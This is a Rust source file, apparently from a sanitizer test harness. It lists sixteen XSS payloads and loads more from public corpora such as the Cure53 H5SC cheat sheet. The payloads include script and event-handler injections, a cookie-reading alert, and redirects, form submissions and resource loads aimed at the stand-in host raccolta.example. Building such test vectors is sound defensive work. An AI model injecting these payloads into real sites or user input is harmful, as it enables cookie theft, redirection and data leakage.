//! What is planted: known attacks of public projects where they lie beside this one, and some of our own,
//! which are there always.

use std::path::Path;

use anyhow::{Context, Result};
use tests::corpora;
use tests::proof::{Run, say};

/// Each does, without any lock, something that the proof sees.
pub(super) const OWN: [&str; 16] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<script>alert(parent.document.cookie + parent.document.title)</script>",
    "<script>top.location = 'http://raccolta.example/'</script>",
    "<meta http-equiv=refresh content='0;url=http://raccolta.example/meta'>",
    "<img src=http://raccolta.example/img>",
    "<link rel=stylesheet href=http://raccolta.example/css>",
    "<style>@import 'http://raccolta.example/import'; body{background:url(http://raccolta.example/bg)}</style>",
    "<div style='background:url(http://raccolta.example/style)'>x</div>",
    "<form id=f action=http://raccolta.example/form><input name=a></form><script>f.submit()</script>",
    "<object data=http://raccolta.example/object></object><embed src=http://raccolta.example/embed>",
    "<video poster=http://raccolta.example/poster src=http://raccolta.example/video autoplay></video>",
    "<iframe src=http://raccolta.example/frame></iframe>",
    "<body background=http://raccolta.example/body onload=alert(1)>",
];

/// Every vector, our own first; none is there twice.
pub(super) fn all(run: &Run) -> Result<Vec<String>> {
    let mut vectors: Vec<String> = OWN.iter().map(|vector| (*vector).to_owned()).collect();
    match corpora::folder() {
        None => say("html: no corpora beside the project: the proof's own vectors alone"),
        Some(folder) => {
            vectors.extend(lines(&folder.join("html_payloads.jsonl"))?);
            let cheatsheet = folder.join("cure53+H5SC/vectors.txt");
            let text = std::fs::read_to_string(&cheatsheet).context("the cheat sheet cannot be read")?;
            vectors.extend(text.split("<div id=\"").skip(1).map(after_id));
        }
    }
    if let Some(file) = &run.vectors {
        vectors.extend(lines(file)?);
    }
    let mut seen = std::collections::HashSet::new();
    vectors.retain(|vector| !vector.trim().is_empty() && seen.insert(vector.clone()));
    Ok(vectors)
}

fn after_id(piece: &str) -> String {
    let vector = piece.split_once("\">").map_or(piece, |(_, vector)| vector);
    vector.split_once("//[\"'`-->").map_or(vector, |(vector, _)| vector).to_owned()
}

fn lines(file: &Path) -> Result<Vec<String>> {
    let text = std::fs::read_to_string(file).with_context(|| format!("{} cannot be read", file.display()))?;
    let payload = |line: &str| -> Result<String> {
        let value: serde_json::Value = serde_json::from_str(line)?;
        let payload = value.get("payload").and_then(serde_json::Value::as_str);
        Ok(payload.context("a line without a payload")?.to_owned())
    };
    text.lines().filter(|line| !line.trim().is_empty()).map(payload).collect()
}
